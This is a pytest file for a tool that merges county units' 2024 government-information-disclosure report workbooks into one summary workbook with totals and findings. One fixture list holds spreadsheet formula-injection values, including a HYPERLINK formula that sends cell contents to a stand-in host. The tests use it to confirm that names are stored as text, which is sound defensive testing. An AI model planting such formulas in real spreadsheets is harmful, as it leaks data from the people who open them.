"""The county office's 汇总 workbook: a row per unit, the findings, 表三 and 表四 summed."""

from __future__ import annotations

from pathlib import Path

import pytest
from factories import consistent_report
from openpyxl import load_workbook
from typer.testing import CliRunner

from converter.cli import app
from converter.format import official as fmt
from converter.format.grid import grid_rows
from converter.write.summary import (
    FINDINGS_SHEET,
    HEADER_ROW,
    TOTALS_SHEETS,
    UNIT_HEADER,
    UNITS_SHEET,
    shared_region,
    summary_title,
    text_width,
)
from converter.write.workbook import write_workbook

runner = CliRunner()


@pytest.fixture
def county(tmp_path) -> tuple[Path, list]:
    folder = tmp_path / "各单位"
    folder.mkdir()
    reports = []
    for number, org in enumerate(["乙县交通局", "甲县教育局", "丙镇人民政府"]):
        report = consistent_report()
        report.info.org = org
        report.values["applications.new.natural_person"] += number
        report.values["applications.carried_forward.natural_person"] += number
        report.values["applications.new.total"] += number
        report.values["applications.carried_forward.total"] += number
        report.values["review.upheld"] += 2 * number
        report.values["review.total"] += 2 * number
        write_workbook(folder / f"{number}.xlsx", report)
        reports.append(report)
    wrong = consistent_report()
    wrong.info.org = "丁县有误局"
    wrong.values["applications.new.natural_person"] += 1  # R0: 一 + 二 no longer equals 三 + 四
    wrong.values["applications.new.total"] += 1  # as the workbook's formula computes it
    write_workbook(folder / "3.xlsx", wrong)
    (folder / "4.xlsx").write_bytes(b"")  # unreadable
    return folder, [*reports, wrong]


def summarise(tmp_path: Path, folder: Path) -> Path:
    out = tmp_path / "汇总.xlsx"
    result = runner.invoke(app, ["summary", str(folder), "-o", str(out)])
    assert result.exit_code == 0, result.stderr
    assert "共检查 5 个文件：3 个通过，1 个有错误，1 个无法读取" in result.stderr
    return out


def test_one_row_per_unit_sorted_and_filtered(tmp_path, county):
    folder, _ = county
    wb = load_workbook(summarise(tmp_path, folder))
    units = wb[UNITS_SHEET]
    rows = [[c.value for c in row] for row in units.iter_rows(min_row=HEADER_ROW)]
    assert tuple(rows[0]) == UNIT_HEADER
    assert [r[0] for r in rows[1:]] == ["丁县有误局", "丙镇人民政府", "乙县交通局", "甲县教育局", None]
    assert [r[3] for r in rows[1:]] == ["有错误", "通过", "通过", "通过", "无法读取"]
    jiaotong = rows[3]
    assert jiaotong[:6] == ["乙县交通局", 2024, "0.xlsx", "通过", 0, 0]
    new = consistent_report().values["applications.new.total"]
    assert jiaotong[UNIT_HEADER.index("新收")] == new
    assert jiaotong[UNIT_HEADER.index("行政诉讼")] == sum(
        consistent_report().values[k] for k in ("litigation_direct.total", "litigation_after_review.total")
    )
    assert units.auto_filter.ref == "A2:M7" and units.freeze_panes == "A3"


def test_the_findings_sheet_names_each_unit_and_cell(tmp_path, county):
    folder, _ = county
    rows = [
        [c.value for c in row]
        for row in load_workbook(summarise(tmp_path, folder))[FINDINGS_SHEET].iter_rows(min_row=HEADER_ROW)
    ]
    assert rows[1][:5] == ["丁县有误局", "3.xlsx", "错误", "R0", "表三!D31"]
    assert rows[-1][1] == "4.xlsx" and "空文件" in rows[-1][5]


def test_table_3_and_4_are_the_sums_of_the_units_without_errors(tmp_path, county):
    folder, reports = county
    counted = reports[:3]  # 丁县有误局 has an error and 4.xlsx cannot be read: neither is added
    wb = load_workbook(summarise(tmp_path, folder))
    for table in (fmt.APPLICATIONS, fmt.REVIEW):
        ws = wb[TOTALS_SHEETS[table.id]]
        top = HEADER_ROW + 1
        for row in grid_rows(table):
            for g in row:
                if g.continued:
                    continue
                value = ws.cell(top + g.cell.row, 1 + g.cell.col).value
                if g.cell.label is not None:
                    assert value == g.cell.label
                else:
                    assert value == sum(r.values[g.cell.key] for r in counted), g.cell.key
        note = "3 个单位合计，另有 1 个单位有错误未计入，1 个文件无法读取未计入"
        assert ws.cell(HEADER_ROW, 1).value == f"{table.name}　{table.caption}（{note}）"
    totals = wb[TOTALS_SHEETS["applications"]]
    new, carried = (
        _grid_value(totals, key) for key in ("applications.new.total", "applications.carried_over.total")
    )
    done, forward = (
        _grid_value(totals, key) for key in ("applications.total.total", "applications.carried_forward.total")
    )
    assert new + carried == done + forward  # the printed totals balance: R0 holds for the sum


def _grid_value(ws, key: str):
    cell = next(c for c in fmt.APPLICATIONS.cells if c.key == key)
    return ws.cell(HEADER_ROW + 1 + cell.row, 1 + cell.col).value


def test_every_sheet_has_the_title_and_prints_landscape_one_page_wide(tmp_path, county):
    folder, _ = county
    wb = load_workbook(summarise(tmp_path, folder))
    assert wb.sheetnames == [UNITS_SHEET, FINDINGS_SHEET, *TOTALS_SHEETS.values()]
    for ws in wb.worksheets:
        assert ws.cell(1, 1).value.startswith("2024年政府信息公开工作年度报告汇总"), ws.title
        assert ws.page_setup.orientation == "landscape" and ws.page_setup.fitToWidth == 1
        assert ws.page_setup.fitToHeight == 0 and ws.sheet_properties.pageSetUpPr.fitToPage
        assert ws.print_title_rows.startswith("$1:$")  # title and header rows on every page
    assert wb[TOTALS_SHEETS["review"]].print_title_rows == "$1:$5"  # title, caption, three header rows


def test_headers_fit_on_one_line_and_the_year_stands_apart(tmp_path, county):
    folder, _ = county
    units = load_workbook(summarise(tmp_path, folder))[UNITS_SHEET]
    for col, header in enumerate(UNIT_HEADER, start=1):
        width = units.column_dimensions[units.cell(1, col).column_letter].width
        assert width >= text_width(header) + 2, header  # `信息处理费（元）` is not broken before `）`
    year = units.cell(HEADER_ROW + 1, UNIT_HEADER.index("年度") + 1)
    assert year.alignment.horizontal == "center"  # 2024 does not run into the file name


def test_table_4_has_its_own_widths(tmp_path, county):
    folder, _ = county
    review = load_workbook(summarise(tmp_path, folder))[TOTALS_SHEETS["review"]]
    for cell in fmt.REVIEW.cells:
        if cell.label and cell.colspan == 1:
            width = review.column_dimensions[review.cell(1, 1 + cell.col).column_letter].width
            assert width >= text_width(cell.label) + 2, cell.label  # 结果维持, 尚未审结 on one line


@pytest.mark.parametrize(
    ("names", "region"),
    [
        (["某某县交通局", "某某县教育局", "某某县某某镇人民政府"], "某某县"),
        (["淮安市人民政府", "淮安市洪泽区人民政府"], "淮安市"),
        (["某某市某某区教育局", "某某市某某区卫生健康局"], "某某市某某区"),
        (["甲县教育局", "乙县交通局"], ""),
        ([], ""),
    ],
)
def test_the_title_names_the_region_the_units_share(names, region):
    assert shared_region(names) == region


def test_the_title_spans_the_years_when_they_differ(county):
    from converter.core.findings import FileFindings

    reports = []
    for year in (2023, 2024):
        report = consistent_report()
        report.info.org, report.info.year = "某某县教育局", year
        result = FileFindings(Path(f"{year}.xlsx"))
        result.report = report  # type: ignore[attr-defined]
        reports.append(result)
    assert summary_title(reports) == "某某县2023—2024年政府信息公开工作年度报告汇总"


FORMULA_LIKE = ['=HYPERLINK("http://example.invalid/?"&A3,"点击")', "+1某某局", "-1某某局", "@SUM(A1)"]


@pytest.fixture
def formula_county(tmp_path) -> Path:
    folder = tmp_path / "公式"
    folder.mkdir()
    for number, org in enumerate(FORMULA_LIKE):
        report = consistent_report()
        report.info.org = org
        write_workbook(folder / f"{org[0]}{number}.xlsx", report)
    return folder


def test_organ_and_file_names_are_text_never_formulas(tmp_path, formula_county):
    wb = load_workbook(summarise_any(tmp_path, formula_county))
    cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row if isinstance(c.value, str)]
    for text in FORMULA_LIKE:
        found = [c for c in cells if c.value == text]
        assert found and all(c.data_type == "s" for c in found), text
    names = {c.value for c in cells if c.value and c.value.endswith(".xlsx")}
    assert names == {"=0.xlsx", "+1.xlsx", "-2.xlsx", "@3.xlsx"}
    assert all(c.data_type == "s" for c in cells)


@pytest.mark.soffice
def test_libreoffice_shows_the_formula_like_names_as_written(tmp_path, formula_county, soffice):
    out = summarise_any(tmp_path, formula_county)
    text = soffice(out, "csv:Text - txt - csv (StarCalc):44,34,76", tmp_path)  # the 汇总 sheet, UTF-8
    shown = text.read_text(encoding="utf-8")
    for org in FORMULA_LIKE[1:]:
        assert org in shown
    assert "HYPERLINK" in shown and "点击" in shown and "example.invalid" in shown


def summarise_any(tmp_path: Path, folder: Path) -> Path:
    out = tmp_path / "汇总.xlsx"
    result = runner.invoke(app, ["summary", str(folder), "-o", str(out)])
    assert result.exit_code == 0, result.stderr
    return out


@pytest.mark.soffice
def test_the_summary_opens_clean_in_libreoffice(tmp_path, county, soffice):
    folder, reports = county
    saved = soffice(summarise(tmp_path, folder), "xlsx", tmp_path / "lo")
    wb = load_workbook(saved)
    assert wb.sheetnames == [UNITS_SHEET, FINDINGS_SHEET, *TOTALS_SHEETS.values()]
    key = "applications.new.total"
    totals = wb[TOTALS_SHEETS["applications"]]
    assert _grid_value(totals, key) == sum(r.values[key] for r in reports[:3])
    assert wb[UNITS_SHEET].max_row == 7


def test_summary_refuses_to_overwrite_and_needs_xlsx(tmp_path, county):
    folder, _ = county
    out = summarise(tmp_path, folder)
    assert runner.invoke(app, ["summary", str(folder), "-o", str(out)]).exit_code == 5
    assert runner.invoke(app, ["summary", str(folder), "-o", str(tmp_path / "汇总.docx")]).exit_code == 5
